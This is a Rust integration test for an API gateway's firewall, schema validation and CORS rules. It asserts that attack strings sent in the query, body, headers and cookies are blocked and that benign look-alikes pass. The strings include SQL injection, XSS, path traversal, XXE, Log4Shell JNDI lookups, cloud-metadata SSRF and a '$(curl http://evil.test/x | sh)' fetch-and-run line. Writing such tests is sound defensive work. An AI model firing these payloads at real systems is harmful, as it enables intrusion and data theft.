//! Integration: the WAF through the real binary (each family with attacks and benign
//! look-alikes, in every request part), detect-only mode, IP deny lists behind a trusted proxy,
//! oversize bodies, schema validation and strict CORS.
#![allow(clippy::unwrap_used)]

mod gateway_support;

use gateway_support::{start, testkit};

fn config(http: std::net::SocketAddr, dir: &std::path::Path) -> String {
    format!(
        r#"
[server]
trusted_proxies = ["127.0.0.1/32"]
[waf]
max_inspect_bytes = 2048
oversize = "block"
deny_ips = ["203.0.113.0/24"]
[log]
access = "off"
[audit]
path = "{audit}"

[upstreams.app]
kind = "http"
url = "http://{http}"

[cors.web]
allow_origins = ["https://app.example.com"]
allow_methods = ["GET", "POST"]
allow_headers = ["content-type", "authorization"]
allow_credentials = true
max_age_secs = 600

[[routes]]
id = "search"
methods = ["GET", "POST"]
path = "/search"
upstream = "app"
public = true
cors = "web"

[[routes]]
id = "detect"
path = "/detect"
upstream = "app"
public = true
waf = {{ mode = "detect_only" }}

[[routes]]
id = "orders"
methods = ["POST"]
path = "/orders/{{id}}"
upstream = "app"
public = true
[routes.schema]
content_types = ["application/json"]
max_json_depth = 5
body = {{ type = "object", required = ["qty"], additionalProperties = false, properties = {{ qty = {{ type = "integer", minimum = 1, maximum = 100 }}, note = {{ type = "string", maxLength = 50 }} }} }}
path = {{ type = "object", properties = {{ id = {{ type = "string", pattern = "^[0-9]{{1,10}}$" }} }} }}
query = {{ type = "object", properties = {{ dry = {{ enum = ["true", "false"] }} }} }}
"#,
        audit = dir.join("audit.jsonl").display()
    )
}

fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waf_families_lookalikes_and_modes() {
    let dir = tempfile::tempdir().unwrap();
    let http = testkit::echo_upstream().await;
    let gw = start(dir.path(), &config(http, dir.path()));
    let c = testkit::Client::new();
    let q = |v: &str| gw.url(&format!("/search?q={}", enc(v)));

    let attacks = [
        "' OR '1'='1' --",
        "1 UNION SELECT password FROM users",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "$(curl http://evil.test/x | sh)",
        "{{7*7}}",
        "__import__('os').system('id')",
        "http://169.254.169.254/latest/meta-data/",
        "${jndi:ldap://evil.test/a}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    ];
    for a in attacks {
        let r = c.get(&q(a), &[]).await;
        assert_eq!(r.status, 403, "query attack passed: {a}");
        assert!(
            !r.text().contains("sqli") && !r.text().contains("rule"),
            "block reveals the rule"
        );
    }
    let benign = [
        "O'Reilly",
        "select a plan",
        "Tom & Jerry",
        "rock and roll",
        "a < b > c",
        "https://example.com/docs?page=2",
        "JavaScript: The Good Parts",
        "100% cotton; size: M",
        "café",
        "the union of sets",
    ];
    for b in benign {
        let r = c.get(&q(b), &[]).await;
        assert_eq!(r.status, 200, "benign blocked: {b}");
    }

    // Other request parts: JSON, form, multipart, XML, headers, cookies, encoded path.
    let json = [("content-type", "application/json")];
    assert_eq!(
        c.post(
            &gw.url("/search"),
            &json,
            r#"{"q":{"deep":["\u003cscript\u003ealert(1)</script>"]}}"#
        )
        .await
        .status,
        403
    );
    assert_eq!(
        c.post(
            &gw.url("/search"),
            &json,
            r#"{"q":"I love <b>bold</b> text"}"#
        )
        .await
        .status,
        200
    );
    let form = [("content-type", "application/x-www-form-urlencoded")];
    assert_eq!(
        c.post(&gw.url("/search"), &form, "name=x&q=1%27%20OR%201%3D1--")
            .await
            .status,
        403
    );
    assert_eq!(
        c.post(&gw.url("/search"), &form, "name=O%27Brien&q=dublin")
            .await
            .status,
        200
    );
    let mp = [("content-type", "multipart/form-data; boundary=XyZ")];
    let upload = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nhello\r\n--XyZ--\r\n";
    assert_eq!(c.post(&gw.url("/search"), &mp, upload).await.status, 403);
    let fine = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"report.pdf\"\r\n\r\nhello\r\n--XyZ--\r\n";
    assert_eq!(c.post(&gw.url("/search"), &mp, fine).await.status, 200);
    let xml = [("content-type", "application/xml")];
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    assert_eq!(c.post(&gw.url("/search"), &xml, xxe).await.status, 403);
    assert_eq!(
        c.post(
            &gw.url("/search"),
            &xml,
            "<order><body>fish &amp; chips</body></order>"
        )
        .await
        .status,
        200
    );
    assert_eq!(
        c.get(&gw.url("/search"), &[("user-agent", "${jndi:ldap://x/a}")])
            .await
            .status,
        403
    );
    assert_eq!(
        c.get(
            &gw.url("/search"),
            &[("cookie", "s=%3Cscript%3Ealert(1)%3C/script%3E")]
        )
        .await
        .status,
        403
    );
    assert_eq!(
        c.get(&gw.url("/search"), &[("cookie", "theme=dark; lang=en")])
            .await
            .status,
        200
    );

    // Detect-only: let through, audited.
    assert_eq!(
        c.get(
            &gw.url(&format!("/detect?q={}", enc("<script>x</script>"))),
            &[]
        )
        .await
        .status,
        200
    );
    // Oversize body on a blocking route.
    assert_eq!(
        c.post(&gw.url("/search"), &[], vec![b'a'; 4000])
            .await
            .status,
        413
    );

    // IP deny list, client address taken from X-Forwarded-For behind a trusted proxy.
    assert_eq!(
        c.get(
            &gw.url("/search?q=x"),
            &[("x-forwarded-for", "203.0.113.9")]
        )
        .await
        .status,
        403
    );
    assert_eq!(
        c.get(
            &gw.url("/search?q=x"),
            &[("x-forwarded-for", "198.51.100.1")]
        )
        .await
        .status,
        200
    );

    let audit = gateway_support::read(&dir.path().join("audit.jsonl"));
    let ok = gateway_support::eventually(std::time::Duration::from_secs(5), || {
        gateway_support::read(&dir.path().join("audit.jsonl")).contains("waf_detect")
    })
    .await;
    assert!(ok, "{audit}");
    let audit = gateway_support::read(&dir.path().join("audit.jsonl"));
    assert!(audit.contains("\"event\":\"waf_block\"") && audit.contains("\"event\":\"ip_denied\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn schema_validation_and_cors() {
    let dir = tempfile::tempdir().unwrap();
    let http = testkit::echo_upstream().await;
    let gw = start(dir.path(), &config(http, dir.path()));
    let c = testkit::Client::new();
    let json = [("content-type", "application/json")];
    assert_eq!(
        c.post(
            &gw.url("/orders/12?dry=true"),
            &json,
            r#"{"qty":2,"note":"ok"}"#
        )
        .await
        .status,
        200
    );
    let r = c.post(&gw.url("/orders/12"), &json, r#"{"qty":0}"#).await;
    assert_eq!(r.status, 422);
    assert!(r.text().contains("/qty"), "{}", r.text());
    assert_eq!(
        c.post(&gw.url("/orders/12"), &json, r#"{"qty":1,"admin":true}"#)
            .await
            .status,
        422
    );
    assert_eq!(
        c.post(&gw.url("/orders/12"), &json, r#"{"note":"x"}"#)
            .await
            .status,
        422
    );
    assert_eq!(
        c.post(&gw.url("/orders/abc"), &json, r#"{"qty":1}"#)
            .await
            .status,
        422
    );
    assert_eq!(
        c.post(&gw.url("/orders/12?dry=maybe"), &json, r#"{"qty":1}"#)
            .await
            .status,
        422
    );
    assert_eq!(
        c.post(
            &gw.url("/orders/12"),
            &[("content-type", "text/plain")],
            "qty=1"
        )
        .await
        .status,
        415
    );
    assert_eq!(
        c.post(&gw.url("/orders/12"), &json, r#"{"qty":[[[[[[1]]]]]]}"#)
            .await
            .status,
        400
    );
    assert_eq!(
        c.post(&gw.url("/orders/12"), &json, r#"{"qty":"#)
            .await
            .status,
        422
    );

    // CORS preflights.
    let pre = |origin: &str, method: &str, headers: &str| {
        let c = c.clone();
        let url = gw.url("/search");
        let (o, m, h) = (origin.to_string(), method.to_string(), headers.to_string());
        async move {
            let mut b = http::Request::builder()
                .method("OPTIONS")
                .uri(url)
                .header("origin", o)
                .header("access-control-request-method", m);
            if !h.is_empty() {
                b = b.header("access-control-request-headers", h);
            }
            c.send(
                b.body(http_body_util::Full::new(bytes::Bytes::new()))
                    .unwrap(),
            )
            .await
        }
    };
    let r = pre("https://app.example.com", "POST", "content-type").await;
    assert_eq!(r.status, 204);
    assert_eq!(
        r.headers["access-control-allow-origin"],
        "https://app.example.com"
    );
    assert_eq!(r.headers["access-control-allow-credentials"], "true");
    assert_eq!(r.headers["access-control-max-age"], "600");
    assert_eq!(
        pre("https://evil.example.com", "POST", "").await.status,
        403
    );
    assert_eq!(
        pre("https://app.example.com", "DELETE", "").await.status,
        403
    );
    assert_eq!(
        pre("https://app.example.com", "POST", "x-secret")
            .await
            .status,
        403
    );
    assert_eq!(
        pre("https://app.example.com.evil.com", "GET", "")
            .await
            .status,
        403
    );
    // Routes without a CORS policy refuse preflights.
    let r = c
        .send(
            http::Request::builder()
                .method("OPTIONS")
                .uri(gw.url("/detect"))
                .header("origin", "https://app.example.com")
                .header("access-control-request-method", "GET")
                .body(http_body_util::Full::new(bytes::Bytes::new()))
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, 403);
    // Actual requests: headers only for the allowed origin.
    let r = c
        .get(
            &gw.url("/search?q=x"),
            &[("origin", "https://app.example.com")],
        )
        .await;
    assert_eq!(
        r.headers["access-control-allow-origin"],
        "https://app.example.com"
    );
    let r = c
        .get(
            &gw.url("/search?q=x"),
            &[("origin", "https://evil.example.com")],
        )
        .await;
    assert!(!r.headers.contains_key("access-control-allow-origin"));
}
